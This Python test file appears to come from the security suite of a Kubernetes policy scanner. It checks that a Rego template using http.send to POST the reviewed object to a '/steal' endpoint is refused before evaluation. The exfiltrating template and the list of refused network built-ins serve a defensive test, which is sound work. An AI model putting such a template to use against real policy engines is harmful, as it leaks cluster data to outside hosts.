"""Attack: a template calls `http.send` to ship the reviewed object out and to pull text into the report.

Both engines must refuse the template before evaluating anything, with the same one-line error (exit 2), no
request may reach the listener, and the other templates still report.
"""

from __future__ import annotations

import json
import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import pytest

from tests.engine.conftest import constraint, template
from tests.security.engine_scan import scan, write_case

CANARY = "kguard-canary-7f3c1e9a"


@pytest.fixture
def listener() -> Iterator[tuple[int, list[str]]]:
    """An HTTP server on 127.0.0.1 that records every request and answers with the canary."""
    received: list[str] = []

    class Handler(BaseHTTPRequestHandler):
        def _answer(self) -> None:
            received.append(f"{self.command} {self.path}")
            body = json.dumps({"canary": CANARY}).encode()
            self.send_response(200)
            self.send_header("Content-Type", "application/json")
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)

        do_GET = do_POST = _answer

        def log_message(self, *args: object) -> None:
            pass

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        yield server.server_address[1], received
    finally:
        server.shutdown()
        server.server_close()


def exfiltrating_template(port: int) -> str:
    return template("K8sExfil", f"""
    package k8sexfil
    violation contains {{"msg": msg}} if {{
      response := http.send({{"method": "POST", "url": "http://127.0.0.1:{port}/steal", "body": input.review}})
      msg := sprintf("%v", [response.body])
    }}
    """) + "---\n" + constraint("K8sExfil", "exfil")


@pytest.mark.parametrize("engine", ["regorus", pytest.param("opa", marks=pytest.mark.integration),
                                    pytest.param("opa-url", marks=pytest.mark.integration)])
def test_http_send_is_refused_before_evaluation(engine, listener, tmp_path, request):
    extra: tuple[str, ...] = ()
    if engine == "opa":
        request.getfixturevalue("opa_on_path")
    if engine == "opa-url":  # a server kguard did not start: only the check before uploading protects it
        engine, extra = "opa", ("--opa-url", request.getfixturevalue("opa_url"))
    port, received = listener
    directory = write_case(tmp_path, exfiltrating_template(port))

    result = scan(directory, engine, None, *extra)

    assert result.returncode == 2
    errors = [line for line in result.stderr.splitlines() if line.startswith("kguard: error:")]
    assert errors == ["kguard: error: policy K8sExfil: calls the built-in http.send, which kguard does not allow: "
                      "templates may not reach the network or the runtime environment (http.send, "
                      "net.lookup_ip_addr, opa.runtime are refused)"]
    assert "Traceback" not in result.stderr
    assert received == []
    assert CANARY not in result.everything()
    report = json.loads(result.report)
    assert [f["message"] for f in report["findings"]] == ["container c is privileged"]
